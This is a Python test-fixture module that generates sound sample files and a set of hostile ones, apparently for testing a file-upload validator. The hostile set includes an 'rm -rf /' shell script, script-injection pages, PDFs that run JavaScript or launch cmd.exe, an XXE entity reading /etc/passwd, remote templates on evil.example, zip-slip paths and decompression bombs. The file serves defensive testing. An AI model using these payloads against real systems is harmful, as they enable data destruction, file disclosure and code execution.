"""Files made for tests: sound ones of every kind, and hostile ones."""

import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf(extra: bytes = b"", *, tail: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + extra + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n" + tail
    )


def pdf_with_packed(inner: bytes) -> bytes:
    return pdf_with_stream(zlib.compress(inner))


def deflated(*parts: tuple[int, bytes]) -> bytes:
    """A zlib stream whose parts are packed at levels of their own: 0 leaves the bytes as they are."""
    packed = b"\x78\x9c"
    for level, text in parts:
        block = zlib.compressobj(level, zlib.DEFLATED, -15)
        packed += block.compress(text) + block.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packed + last.flush() + zlib.adler32(b"".join(text for _level, text in parts)).to_bytes(4, "big")


def pdf_with_stream(packed: bytes, described: bytes = b"/Filter /FlateDecode") -> bytes:
    stream = b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 %s /Length %d >>\nstream\n" % (described, len(packed))
    return pdf().replace(b"trailer", stream + packed + b"\nendstream\nendobj\ntrailer")


def chunk(name: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + name + body + zlib.crc32(name + body).to_bytes(4, "big")


def png(width: int = 2, height: int = 2, *, tail: bytes = b"") -> bytes:
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
    rows = zlib.compress(b"".join(b"\x00" + b"\x0f\x5f\x5e" * 2 for _row in range(2)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"") + tail


def segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + (len(body) + 2).to_bytes(2, "big") + body


def jpeg(width: int = 16, height: int = 16, *, comment: bytes = b"", tail: bytes = b"") -> bytes:
    frame = b"\x08" + height.to_bytes(2, "big") + width.to_bytes(2, "big") + b"\x01\x01\x11\x00"
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + (segment(0xFE, comment) if comment else b"")
        + segment(0xC0, frame)
        + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x12\xff\x00\x34\xff\xd0\x56"
        + b"\xff\xd9"
        + tail
    )


def archive(parts: dict[str, bytes], *, comment: bytes = b"", packing: int = ZIP_DEFLATED) -> bytes:
    file = BytesIO()
    with ZipFile(file, "w", packing) as written:
        for name, body in parts.items():
            written.writestr(ZipInfo(name), body, packing)
        written.comment = comment
    return file.getvalue()


def types(*stated: str) -> bytes:
    listed = "".join(f'<Override PartName="/x{n}.xml" ContentType="{each}"/>' for n, each in enumerate(stated))
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types">{listed}</Types>'
    ).encode()


def relations(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    ).encode()


def docx(more: dict[str, bytes] | None = None, *, main: str = WORD, **how: object) -> bytes:
    return archive({"[Content_Types].xml": types(main), "word/document.xml": b"<w/>", **(more or {})}, **how)


def xlsx(more: dict[str, bytes] | None = None, *, main: str = EXCEL) -> bytes:
    return archive({"[Content_Types].xml": types(main), "xl/workbook.xml": b"<w/>", **(more or {})})


SOUND = {
    "pdf": pdf(),
    "pdf with a link and packed objects": pdf_with_packed(b"5 0 << /Type /Page /A << /S /URI >> >>"),
    "jpeg": jpeg(),
    "jpeg as a telephone writes it": jpeg(4000, 3000, tail=b"\x00" * 40 + b"SEFT"),
    "png": png(),
    "docx": docx({"word/_rels/document.xml.rels": relations("hyperlink", "https://www.nhc.gov.cn/")}),
    "xlsx": xlsx({"xl/printerSettings/printerSettings1.bin": b"x"}),
}

HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HOSTILE = {
    "nothing": b"",
    "page": HTML,
    "page behind white space": b"\n\n  " + HTML,
    "drawing": SVG,
    "program": b"MZ\x90\x00" + b"\x00" * 100,
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    "text": "机构名称,电话\n".encode(),
    "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "plain archive": archive({"x.txt": b"x"}),
    "archive of nothing": b"PK\x05\x06" + b"\x00" * 18,
    "archive cut off": docx()[:-30],
    "pdf header only": b"%PDF-1.7\n",
    "pdf cut off": pdf()[:-8],
    "pdf behind a page": HTML + pdf(),
    "pdf with a script": pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "pdf with an escaped script": pdf(b"/OpenAction << /S /J#61va#53cript /JS (x) >>"),
    "pdf with a packed script": pdf_with_packed(b"5 0 << /S /JavaScript /JS (x) >>"),
    "pdf with a script behind a false end": pdf_with_stream(
        deflated((0, b"5 0 endstream stream\n"), (9, b"<< /S /JavaScript /JS (x) >>" + b"/JavaScript " * 50))
    ),
    "pdf with a script far behind its dictionary": pdf_with_stream(
        zlib.compress(b"<< /S /JavaScript >>"), b"/Filter /FlateDecode /X (" + b"x" * 9000 + b")"
    ),
    "pdf with a script packed in hexadecimal": pdf_with_stream(
        zlib.compress(b"<< /S /JavaScript >>").hex().encode() + b">", b"/Filter [/ASCIIHexDecode /FlateDecode]"
    ),
    "pdf that launches": pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "pdf with a file inside": pdf(b"/Names << /EmbeddedFiles 3 0 R >>"),
    "pdf with a form program": pdf(b"/AcroForm << /XFA 8 0 R >>"),
    "pdf with a password": pdf(b"/Encrypt 9 0 R"),
    "pdf that is an archive too": pdf(tail=archive({"x.txt": b"x"})),
    "pdf bomb": pdf_with_packed(b"\x00" * (65 * 1024 * 1024)),
    "jpeg that is an archive too": jpeg(tail=archive({"x.jar": b"x"})),
    "jpeg that is a pdf too": jpeg(comment=b"%PDF-1.7 "),
    "jpeg with a page behind": jpeg(tail=HTML),
    "jpeg without a picture": b"\xff\xd8\xff\xd9",
    "jpeg cut off": jpeg()[:-2],
    "jpeg of a billion pixels": jpeg(60_000, 60_000),
    "jpeg of no width": jpeg(0, 10),
    "png with something behind": png(tail=b"x"),
    "png that is an archive too": png(tail=archive({"x.txt": b"x"})),
    "png with a wrong check sum": png().replace(b"IDAT", b"IDAU"),
    "png cut off": png()[:-12],
    "png of a billion pixels": png(20_000, 20_000),
    "png longer than it is": b"\x89PNG\r\n\x1a\n" + b"\xff\xff\xff\xff" + b"IHDR" + b"\x00" * 20,
    "docm": docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "xlsm": xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "xlsm called xlsx": xlsx({"xl/vbaProject.bin": b"x"}),
    "xlsb": xlsx(main="application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
    "docx with an object": docx({"word/embeddings/oleObject1.bin": b"x"}),
    "docx with a workbook inside": docx({"word/embeddings/Book.xlsx": xlsx()}),
    "docx with a template elsewhere": docx(
        {"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/x.dotm")}
    ),
    "docx with a picture elsewhere": docx(
        {"word/_rels/document.xml.rels": relations("image", "https://evil.example/p")}
    ),
    "docx with definitions": docx({"_rels/.rels": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}),
    "docx in another encoding": docx({"_rels/.rels": '<?xml version="1.0"?><!DOCTYPE x><x/>'.encode("utf-16")}),
    "docx with broken xml": docx({"_rels/.rels": b"<x>"}),
    "docx in an unknown encoding": docx({"_rels/.rels": b'<?xml version="1.0" encoding="klingon"?><x/>'}),
    "word and excel at once": archive({"[Content_Types].xml": types(WORD, EXCEL)}),
    "office file without types": archive({"word/document.xml": b"<w/>"}),
    "zip bomb": docx({"word/media/image1.png": b"\x00" * (90 * 1024 * 1024)}),
    "zip bomb of many": docx({f"word/media/{n}": b"\x00" * (50 * 1024 * 1024) for n in range(3)}),
    "zip bomb in what describes": docx({"_rels/.rels": b" " * (2 * 1024 * 1024)}, packing=ZIP_STORED),
    "archive of too many": docx({f"x/{n}": b"" for n in range(2_001)}),
    "archive that leads out": docx({"../../etc/cron.d/x": b"x"}),
    "archive with an absolute name": docx({"/etc/passwd": b"x"}),
    "archive with one name twice": docx({"WORD/document.xml": b"x"}),
    "archive with a comment": docx(comment=HTML),
    "archive behind something": HTML + docx(),
    "archive before something": docx() + HTML,
}
